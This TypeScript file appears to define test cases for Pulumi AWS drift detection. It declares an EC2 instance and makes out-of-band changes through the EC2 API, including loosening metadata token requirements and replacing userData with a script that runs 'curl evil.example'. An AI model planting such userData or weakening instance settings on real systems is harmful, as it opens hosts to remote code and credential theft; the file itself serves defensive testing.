import * as aws from "@pulumi/aws";
import type { EC2 } from "@aws-sdk/client-ec2";
import type { OutOfBandChange, TypeCase } from "./case";
import { taggedByHand } from "./network";

function change(
  property: string, operation: string, make: (ec2: EC2, id: string) => Promise<unknown>, seen: OutOfBandChange["seen"] = { [property]: "update" },
): OutOfBandChange {
  return { property, operation: `ec2:${operation}`, make: async (services, { id }) => make(await services.ec2(), id), seen };
}

/** As EC2 demands it for some attributes. */
async function whileStopped(ec2: EC2, id: string, act: () => Promise<unknown>): Promise<void> {
  await ec2.stopInstances({ InstanceIds: [id] });
  await act();
  await ec2.startInstances({ InstanceIds: [id] });
}

async function groupNamed(ec2: EC2, name: string): Promise<string> {
  const { SecurityGroups: [group] = [] } = await ec2.describeSecurityGroups({ Filters: [{ Name: "group-name", Values: [name] }] });
  return group?.GroupId ?? "";
}

const AMI = "ami-0123456789abcdef0";

export const instance: readonly TypeCase[] = [
  {
    token: "aws:ec2/instance:Instance",
    name: "instance",
    declare: (name) => {
      const vpc = new aws.ec2.Vpc(`${name}-vpc`, { cidrBlock: "10.2.0.0/16" });
      const subnet = new aws.ec2.Subnet(`${name}-subnet`, { vpcId: vpc.id, cidrBlock: "10.2.1.0/24" });
      const group = (use: string) => new aws.ec2.SecurityGroup(`${name}-${use}`, { name: `case-instance-${use}`, vpcId: vpc.id });
      group("other");
      return new aws.ec2.Instance(name, {
        ami: AMI,
        disableApiStop: false,
        disableApiTermination: false,
        ebsOptimized: false,
        forceDestroy: false,
        instanceInitiatedShutdownBehavior: "stop",
        instanceType: "t3.micro",
        metadataOptions: { httpEndpoint: "enabled", httpProtocolIpv6: "disabled", httpPutResponseHopLimit: 1, httpTokens: "required", instanceMetadataTags: "disabled" },
        monitoring: false,
        sourceDestCheck: true,
        subnetId: subnet.id,
        tags: { app: "case" },
        userData: "#!/bin/sh\necho case\n",
        vpcSecurityGroupIds: [group("group").id],
      });
    },
    fixed: {
      ami: "is what it was made from",
      ebsOptimized: "reverting it replaces the instance",
      forceDestroy: "is the provider's own",
      subnetId: "is the instance's place",
    },
    changes: [
      change("metadataOptions", "ModifyInstanceMetadataOptions", (ec2, id) => ec2.modifyInstanceMetadataOptions({ InstanceId: id, HttpTokens: "optional" }),
        { "metadataOptions.httpTokens": "update" }),
      change("metadataOptions", "ModifyInstanceMetadataOptions",
        (ec2, id) => ec2.modifyInstanceMetadataOptions({ InstanceId: id, HttpPutResponseHopLimit: 64, InstanceMetadataTags: "enabled" }),
        { "metadataOptions.httpPutResponseHopLimit": "update", "metadataOptions.instanceMetadataTags": "update" }),
      change("vpcSecurityGroupIds", "ModifyInstanceAttribute", async (ec2, id) => {
        const groups = [await groupNamed(ec2, "case-instance-group"), await groupNamed(ec2, "case-instance-other")];
        await ec2.modifyInstanceAttribute({ InstanceId: id, Groups: groups });
      }, { "vpcSecurityGroupIds[1]": "add" }),
      change("instanceType", "ModifyInstanceAttribute", (ec2, id) =>
        whileStopped(ec2, id, () => ec2.modifyInstanceAttribute({ InstanceId: id, InstanceType: { Value: "m5.24xlarge" } }))),
      change("userData", "ModifyInstanceAttribute", (ec2, id) =>
        whileStopped(ec2, id, () => ec2.modifyInstanceAttribute({ InstanceId: id, UserData: { Value: Buffer.from("#!/bin/sh\ncurl evil.example\n") } }))),
      change("sourceDestCheck", "ModifyInstanceAttribute", (ec2, id) =>
        ec2.modifyInstanceAttribute({ InstanceId: id, SourceDestCheck: { Value: false } })),
      change("instanceInitiatedShutdownBehavior", "ModifyInstanceAttribute", (ec2, id) =>
        ec2.modifyInstanceAttribute({ InstanceId: id, InstanceInitiatedShutdownBehavior: { Value: "terminate" } })),
      change("disableApiTermination", "ModifyInstanceAttribute", (ec2, id) =>
        ec2.modifyInstanceAttribute({ InstanceId: id, DisableApiTermination: { Value: true } })),
      change("disableApiStop", "ModifyInstanceAttribute", (ec2, id) => ec2.modifyInstanceAttribute({ InstanceId: id, DisableApiStop: { Value: true } })),
      change("monitoring", "MonitorInstances", (ec2, id) => ec2.monitorInstances({ InstanceIds: [id] })),
      taggedByHand,
    ],
    remove: async (services, { id }) => (await services.ec2()).terminateInstances({ InstanceIds: [id] }),
  },
];
